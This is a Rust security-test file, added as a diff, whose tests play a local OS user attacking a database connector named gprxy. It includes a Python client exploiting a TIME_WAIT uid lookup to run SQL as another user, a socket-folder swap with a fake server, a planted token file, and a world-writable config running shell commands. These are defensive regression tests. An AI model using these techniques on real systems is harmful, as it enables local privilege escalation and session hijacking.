@@ -1,0 +1,388 @@
+//! Attacks on `gprxy connect` by another local OS user (review of #32). Each test plays the
+//! attacker as the unprivileged test user (`gprxytest`) against a connector run by this
+//! process's user (root, as `make test` runs: a sidecar container's default user too), and
+//! asserts that the attack fails. A test whose doc comment says DEFECT fails on the code it was
+//! written against: the attack succeeds.
+
+use std::os::unix::fs::PermissionsExt;
+use std::path::Path;
+use std::process::{Child, Command, Stdio};
+use std::time::{Duration, Instant};
+
+use gprxy_core::testkit::TestKey;
+use gprxy_tests::connector::{write_token_file, Connector};
+use gprxy_tests::idp::TestIssuer;
+use gprxy_tests::proxy::gprxy_bin;
+use gprxy_tests::{command_as_test_user, running_as_root, validator_cluster, Cluster, PgVersion, TestCerts};
+use serde_json::json;
+
+const AUD: &str = "db";
+
+/// PostgreSQL 18 with TLS and gprxy_validator (as in connect.rs), with a table `loot` alice
+/// may write to: what an attacker's blind statements leave behind.
+struct Pg18 {
+    idp: TestIssuer,
+    key: TestKey,
+    pg: Cluster,
+    certs: TestCerts,
+}
+
+fn pg18() -> Pg18 {
+    let key = TestKey::rsa("k1");
+    let idp = TestIssuer::start(&[&key]);
+    let certs = TestCerts::for_server();
+    let pg = validator_cluster(AUD)
+        .conf("ssl = on")
+        .conf(format!("ssl_cert_file = '{}'", certs.cert_path.display()))
+        .conf(format!("ssl_key_file = '{}'", certs.key_path.display()))
+        .hba(format!(
+            "hostssl all all 127.0.0.1/32 oauth issuer=\"{}\" scope=\"openid db:read\" map=m",
+            idp.issuer()
+        ))
+        .ident("m alice alice")
+        .start();
+    pg.sql(
+        "CREATE ROLE alice LOGIN; CREATE EXTENSION gprxy_validator; \
+         CREATE TABLE loot (who text); GRANT INSERT ON loot TO alice",
+    );
+    Pg18 { idp, key, pg, certs }
+}
+
+impl Pg18 {
+    fn token(&self, sub: &str, jti: &str) -> String {
+        let mut c = self.idp.claims(sub, AUD);
+        c["jti"] = json!(jti);
+        self.key.token(json!({"typ": "at+jwt"}), &c)
+    }
+
+    fn upstream(&self) -> String {
+        format!(
+            "upstream = \"127.0.0.1:{}\"\nuser = \"alice\"\ndatabase = \"postgres\"\ntls.ca_file = \"{}\"\ntls.server_name = \"localhost\"\n",
+            self.pg.port(),
+            self.certs.ca_path.display()
+        )
+    }
+
+    fn loot(&self) -> String {
+        self.pg.sql("SELECT count(*) || ' ' || coalesce(string_agg(DISTINCT who, ','), '') FROM loot")
+    }
+}
+
+fn attacker_uid() -> u32 {
+    let out = Command::new("id").args(["-u", &gprxy_tests::test_user()]).output().unwrap();
+    String::from_utf8(out.stdout).unwrap().trim().parse().unwrap()
+}
+
+fn as_attacker(program: &str, args: &[&str]) -> std::process::Output {
+    command_as_test_user(program).args(args).output().expect("run as the test user")
+}
+
+/// A folder the test user may enter (a temp dir is 0700 root's).
+fn traversable_dir() -> tempfile::TempDir {
+    let d = tempfile::tempdir().unwrap();
+    std::fs::set_permissions(d.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
+    d
+}
+
+/// The attacker's client: `n` times, connect to 127.0.0.1:PORT, send a startup packet for
+/// alice and one INSERT (padded past one MSS, with TCP_CORK so that data and FIN leave in one
+/// segment, which the connector's kernel acknowledges at once), then close without reading.
+const BLIND_CLIENT: &str = r#"
+import socket, struct, sys
+port, n = int(sys.argv[1]), int(sys.argv[2])
+b = struct.pack('!I', 196608) + b'user\0alice\0database\0postgres\0\0'
+startup = struct.pack('!I', len(b) + 4) + b
+q = b'INSERT INTO loot VALUES (current_user) --' + b' ' * 2000 + b'\0'
+query = b'Q' + struct.pack('!I', len(q) + 4) + q
+for _ in range(n):
+    s = socket.socket()
+    s.connect(('127.0.0.1', port))
+    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_CORK, 1)
+    s.send(startup + query)
+    s.close()
+"#;
+
+/// DEFECT (fails on 0cbb358): on loopback TCP another OS user gets in as root. The attacker
+/// sends its startup packet and a statement and closes at once; by the time the connector asks
+/// the kernel's socket table who owns the peer's socket, that socket is a TIME_WAIT entry, which
+/// sock_diag (and /proc/net/tcp) report with uid 0. A connector running as root (a container's
+/// default, or `allow_uids = [0]`) takes it for itself, logs in upstream with the profile's
+/// token, and forwards the statement the attacker pipelined: alice's session runs it.
+/// Fix: accept a table entry only in state ESTABLISHED with a socket inode (not TIME_WAIT or
+/// an orphan), else refuse.
+#[test]
+fn a_peer_that_closed_before_the_lookup_is_not_taken_for_root() {
+    assert!(running_as_root(), "the attacker is the test user: run as root (make test does)");
+    let s = pg18();
+    let dir = tempfile::tempdir().unwrap();
+    let file = dir.path().join("token");
+    write_token_file(&file, &s.token("alice", "j1"));
+    let c = Connector::start(
+        &format!("{}token.source = \"file\"\ntoken.path = \"{}\"\n", s.upstream(), file.display()),
+        true,
+    );
+    let port = c.tcp_port.unwrap().to_string();
+    let out = as_attacker("/usr/bin/python3", &["-c", BLIND_CLIENT, &port, "10"]);
+    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
+    std::thread::sleep(Duration::from_secs(3));
+    let logins = c.events("connect_login");
+    let refused = c.events("connect_refused");
+    assert_eq!(
+        s.loot(),
+        "0 ",
+        "OS user {} ran statements as alice; {} logins, {} refusals (uids {:?})",
+        attacker_uid(),
+        logins.len(),
+        refused.len(),
+        refused.iter().map(|e| e["uid"].clone()).collect::<Vec<_>>()
+    );
+    assert_eq!(logins.len(), 0);
+    assert_eq!(refused.len(), 10);
+}
+
+/// Starts `gprxy connect` on `config`; Ok(child) once it listens, Err(log) if it exits first.
+fn try_start(config: &Path, log: &Path) -> Result<Child, String> {
+    let child = Command::new(gprxy_bin())
+        .args(["connect", "--profile", "p", "--config"])
+        .arg(config)
+        .env("GPRXY_LOG", "info")
+        .stdin(Stdio::null())
+        .stdout(Stdio::null())
+        .stderr(std::fs::File::create(log).unwrap())
+        .spawn()
+        .unwrap();
+    let mut child = child;
+    let deadline = Instant::now() + Duration::from_secs(10);
+    loop {
+        let text = std::fs::read_to_string(log).unwrap_or_default();
+        if text.contains("\"event\":\"listening\"") {
+            return Ok(child);
+        }
+        if let Ok(Some(_)) = child.try_wait() {
+            return Err(text);
+        }
+        assert!(Instant::now() < deadline, "neither listening nor exited:\n{text}");
+        std::thread::sleep(Duration::from_millis(20));
+    }
+}
+
+fn stop(mut child: Child) {
+    let _ = Command::new("kill").arg("-TERM").arg(child.id().to_string()).status();
+    let _ = child.wait();
+}
+
+/// A fake server on a Unix socket, run as the attacker: answers every startup packet with
+/// FATAL "served by the attacker", once (it could as well play the server and collect what the
+/// application sends).
+const FAKE_SERVER: &str = r#"
+import os, socket, struct, sys
+path = sys.argv[1]
+l = socket.socket(socket.AF_UNIX)
+l.bind(path)
+os.chmod(path, 0o777)
+l.listen(5)
+l.settimeout(20)
+open(sys.argv[2], 'w').write('ready')
+c, _ = l.accept()
+c.recv(65536)
+body = b'SFATAL\0C28000\0Mserved by the attacker\0\0'
+c.sendall(b'E' + struct.pack('!I', len(body) + 4) + body)
+c.close()
+"#;
+
+/// DEFECT (fails on 0cbb358): a socket folder under a folder another user owns. The connector
+/// checks only the last component of `listen.unix_dir` (its own, 0700); a parent the attacker
+/// owns (here `shared/`, made by the attacker before the connector first ran, as in /tmp) lets
+/// the attacker rename the connector's folder away at any time and put its own folder and
+/// socket at the same path: the application, which trusts that path, now talks to the
+/// attacker's server (fake results, and whatever it sends). Fix: refuse a unix_dir any of
+/// whose ancestors is owned by another user than root or this one, or is writable by group or
+/// others without the sticky bit.
+#[test]
+fn a_socket_folder_inside_a_folder_another_user_owns_is_refused() {
+    assert!(running_as_root(), "the attacker is the test user: run as root (make test does)");
+    // Like /tmp: anyone may make a folder in it.
+    let base = traversable_dir();
+    std::fs::set_permissions(base.path(), std::fs::Permissions::from_mode(0o1777)).unwrap();
+    let shared = base.path().join("shared");
+    let shared_s = shared.to_str().unwrap();
+    // The attacker made the folder first (as anyone can in /tmp) and left it open to all.
+    let out = as_attacker("/bin/sh", &["-c", &format!("mkdir -m 0777 {shared_s} && chmod 0777 {shared_s}")]);
+    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
+    let unix_dir = shared.join("app");
+    let config = base.path().join("connect.toml");
+    std::fs::write(
+        &config,
+        format!(
+            "[log]\nformat = \"json\"\n[profile.p]\nupstream = \"127.0.0.1:1\"\ntls.mode = \"insecure-plain-for-tests\"\n\
+             listen.unix_dir = \"{}\"\ntoken.source = \"file\"\ntoken.path = \"/nonexistent\"\n",
+            unix_dir.display()
+        ),
+    )
+    .unwrap();
+    let log = base.path().join("connect.log");
+    let child = match try_start(&config, &log) {
+        // Refused at start: the attack has nothing to work on.
+        Err(text) => {
+            assert!(text.contains(shared_s), "the refusal names the folder: {text}");
+            return;
+        }
+        Ok(child) => child,
+    };
+    // The attacker swaps the folder and serves on the same path.
+    let app = unix_dir.to_str().unwrap();
+    let ready = base.path().join("ready");
+    let out = as_attacker("/bin/sh", &["-c", &format!("mv {app} {shared_s}/old && mkdir -m 0755 {app}")]);
+    let swapped = out.status.success();
+    let mut fake = command_as_test_user("/usr/bin/python3")
+        .args(["-c", FAKE_SERVER])
+        .arg(unix_dir.join(".s.PGSQL.5432"))
+        .arg(&ready)
+        .spawn()
+        .unwrap();
+    let deadline = Instant::now() + Duration::from_secs(5);
+    while !ready.exists() && Instant::now() < deadline {
+        std::thread::sleep(Duration::from_millis(20));
+    }
+    // The application connects as it always did.
+    let out = Command::new(PgVersion::V15.bin("psql"))
+        .args(["-X", "-A", "-t", "-c", "SELECT 1"])
+        .arg(format!("host={app} port=5432 user=alice dbname=postgres"))
+        .output()
+        .unwrap();
+    // It serves one connection and exits (killing runuser would leave it running).
+    let _ = fake.wait();
+    stop(child);
+    let said = String::from_utf8_lossy(&out.stderr).into_owned();
+    assert!(
+        !said.contains("served by the attacker"),
+        "the connector started in {shared_s} (owned by OS user {}); swapped: {swapped}; the application reached the attacker's server: {said}",
+        attacker_uid()
+    );
+}
+
+/// DEFECT (fails on 0cbb358): a token file another user owns is used. The file check refuses
+/// mode bits that let group or others write, but not an owner who is someone else: whoever owns
+/// the file may write it whatever its mode. Here the file's folder is world-writable and sticky
+/// like /tmp, and the attacker wrote the file (mode 0644) before the agent that normally writes
+/// it (which, sticky bit, now cannot replace it): the connector logs the application in with
+/// the attacker's token, the attacker's identity then deciding what the application's session
+/// is. Fix: refuse a token file owned by anyone but this user or root.
+#[test]
+fn a_token_file_another_user_owns_is_refused() {
+    assert!(running_as_root(), "the attacker is the test user: run as root (make test does)");
+    let s = pg18();
+    let dir = traversable_dir();
+    std::fs::set_permissions(dir.path(), std::fs::Permissions::from_mode(0o1777)).unwrap();
+    let file = dir.path().join("token");
+    let planted = s.token("mallory", "planted");
+    let out =
+        as_attacker("/bin/sh", &["-c", &format!("umask 022; printf %s '{planted}' > {}", file.display())]);
+    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
+    let c = Connector::start(
+        &format!("{}token.source = \"file\"\ntoken.path = \"{}\"\n", s.upstream(), file.display()),
+        false,
+    );
+    let out = Command::new(PgVersion::V15.bin("psql"))
+        .args(["-X", "-A", "-t", "-c", "SELECT 1"])
+        .arg(c.conninfo("alice"))
+        .output()
+        .unwrap();
+    let said = String::from_utf8_lossy(&out.stderr).into_owned();
+    let fp = gprxy_core::fingerprint(planted.as_bytes());
+    let used: Vec<_> =
+        c.events("connect_login").into_iter().filter(|e| e["token_fp"] == fp.as_str()).collect();
+    assert!(
+        used.is_empty(),
+        "the attacker's token (owned by OS user {}) was sent upstream: {used:?}; psql: {said}",
+        attacker_uid()
+    );
+    assert!(said.contains(file.to_str().unwrap()), "the application is told which file: {said}");
+}
+
+/// DEFECT (fails on 0cbb358): with `GPRXY_LOG=trace` the HTTP library dumps every byte it sends
+/// and receives, 16 to a log line (`ureq_proto::util`): the `Authorization: Basic` header
+/// holding the client secret, and the issuer's answer holding the access token. Whoever reads
+/// the log (a log shipper, a support bundle) can put the rows together; connect.rs's trace-level
+/// check looks for each secret whole in one line, which the 16-byte rows never hold. The proxy
+/// shares the fetcher (introspection's client secret, every introspected token). Fix: cap the
+/// HTTP library's targets (`ureq_proto=debug`) in the log filter whatever GPRXY_LOG says.
+#[test]
+fn a_trace_level_log_does_not_hold_the_client_secret_or_the_token_in_pieces() {
+    let s = pg18();
+    let dir = tempfile::tempdir().unwrap();
+    let secret = dir.path().join("secret");
+    std::fs::write(&secret, "right-secret-9f3k\n").unwrap();
+    std::fs::set_permissions(&secret, std::fs::Permissions::from_mode(0o600)).unwrap();
+    let t = s.token("alice", "cc");
+    s.idp.client_credentials("svc", "right-secret-9f3k", &t, 300);
+    let profile = format!(
+        "{}token.source = \"client_credentials\"\ntoken.issuer = \"{}\"\ntoken.client_id = \"svc\"\n\
+         token.client_auth = \"client_secret_basic\"\ntoken.client_secret_file = \"{}\"\n\
+         token.scope = \"openid db:read\"\ntoken.insecure_allow_http_loopback = true\n",
+        s.upstream(),
+        s.idp.issuer(),
+        secret.display()
+    );
+    let c = Connector::start_env(&profile, false, &[("GPRXY_LOG", "trace")]);
+    let out = Command::new(PgVersion::V15.bin("psql"))
+        .args(["-X", "-A", "-t", "-c", "SELECT current_user"])
+        .arg(c.conninfo("alice"))
+        .output()
+        .unwrap();
+    assert_eq!(
+        String::from_utf8_lossy(&out.stdout).trim(),
+        "alice",
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    // The rows of the byte dump, their text columns joined.
+    let mut dump = String::new();
+    for line in c.log().lines() {
+        let Ok(v) = serde_json::from_str::<serde_json::Value>(line) else { continue };
+        if let Some(m) = v["message"].as_str().or_else(|| v["fields"]["message"].as_str()) {
+            if line.contains("ureq_proto") {
+                if let Some((_, text)) = m.rsplit_once("  ") {
+                    dump.push_str(text);
+                }
+            }
+        }
+    }
+    use base64::Engine as _;
+    let basic = base64::engine::general_purpose::STANDARD.encode("svc:right-secret-9f3k");
+    let (secret_logged, token_logged) = (dump.contains(&basic), dump.contains(&t));
+    assert!(
+        !secret_logged && !token_logged,
+        "in the log, 16 bytes a line: the client secret ({basic}) {secret_logged}, the access token {token_logged}"
+    );
+}
+
+/// DEFECT (fails on 0cbb358): a configuration file others may write is loaded (at start and on
+/// each SIGHUP). Whoever can write it runs any program as the connector's user (`token.source =
+/// "exec"`), or points `upstream` and `tls.ca_file` at a server of theirs, which then receives
+/// the token. The proxy refuses policy files group or others may write (`read_policy_file`);
+/// the connector's file is not checked at all. Fix: refuse a connect.toml that group or others
+/// may write or that another user than this one or root owns.
+#[test]
+fn a_configuration_file_others_may_write_is_refused() {
+    let dir = tempfile::tempdir().unwrap();
+    let marker = dir.path().join("ran");
+    let config = dir.path().join("connect.toml");
+    std::fs::write(
+        &config,
+        format!(
+            "[profile.p]\nupstream = \"127.0.0.1:1\"\ntls.mode = \"insecure-plain-for-tests\"\n\
+             listen.unix_dir = \"{}\"\ntoken.source = \"exec\"\n\
+             token.command = [\"/bin/sh\", \"-c\", \"touch {}; echo a.b.c\"]\n",
+            dir.path().join("s").display(),
+            marker.display()
+        ),
+    )
+    .unwrap();
+    std::fs::set_permissions(&config, std::fs::Permissions::from_mode(0o666)).unwrap();
+    let (_, _, err) = gprxy_tests::connector::run_gprxy(
+        &["connect", "--check", "--profile", "p", "--config", config.to_str().unwrap()],
+        &[],
+    );
+    assert!(!marker.exists(), "a command from a file anyone may write ran: {err}");
+}
